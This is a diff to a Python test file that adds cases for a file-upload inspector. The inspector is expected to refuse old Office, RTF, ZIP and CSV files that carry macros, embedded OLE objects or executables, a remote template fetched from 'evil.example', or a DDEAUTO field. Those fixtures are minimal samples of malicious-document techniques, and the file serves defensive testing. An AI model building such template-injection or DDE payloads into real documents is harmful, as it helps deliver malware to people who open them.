@@ -255,6 +255,36 @@ def test_actions_at_opening_are_sought_in_linear_time():
     assert time.process_time() - begun < 4
 
 
+@pytest.mark.parametrize(
+    ("reason", "name", "content"),
+    [
+        ("macros", "a.doc", VBA),
+        ("macros", "a.txt", VBA),
+        ("damaged", "a.txt", OLE),
+        ("embedded", "a.xls", OLE + "\x01Ole10Native".encode("utf-16-le")),
+        ("embedded", "a.rtf", b"{\\rtf1 {\\object\\objdata 01}}"),
+        ("template", "a.rtf", b"{\\rtf1 {\\*\\template https://evil.example/t.dotm}}"),
+        ("dde", "a.doc", b"{\\rtf1 {\\field{\\*\\fldinst DDEAUTO c}}}"),
+        ("embedded", "a.zip", packed({"a.exe": "x"})),
+        ("macros", "a.zip", packed({"a.docm": docx(**{"word/vbaProject.bin": VBA})})),
+        ("embedded", "a.csv", b"MZ\x90\x00"),
+    ],
+    ids=lambda one: one if isinstance(one, str) else "",
+)
+def test_older_formats_are_judged_by_their_content(reason, name, content):
+    with pytest.raises(Refused, match=reason):
+        inspect(content, name.rpartition(".")[2])
+
+
+@pytest.mark.parametrize(
+    ("extension", "content"),
+    [("doc", OLE), ("rtf", b"{\\rtf1 Bail}"), ("zip", packed({"a.txt": "x"})), ("csv", b"a;b"), ("txt", b"")],
+    ids=["doc", "rtf", "zip", "csv", "empty"],
+)
+def test_older_formats_without_programs_are_accepted(extension, content):
+    assert inspect(content, extension) == set()
+
+
 def protected(password: str, *, script: bool) -> bytes:
     writer = pypdf.PdfWriter()
     writer.add_blank_page(200, 200)
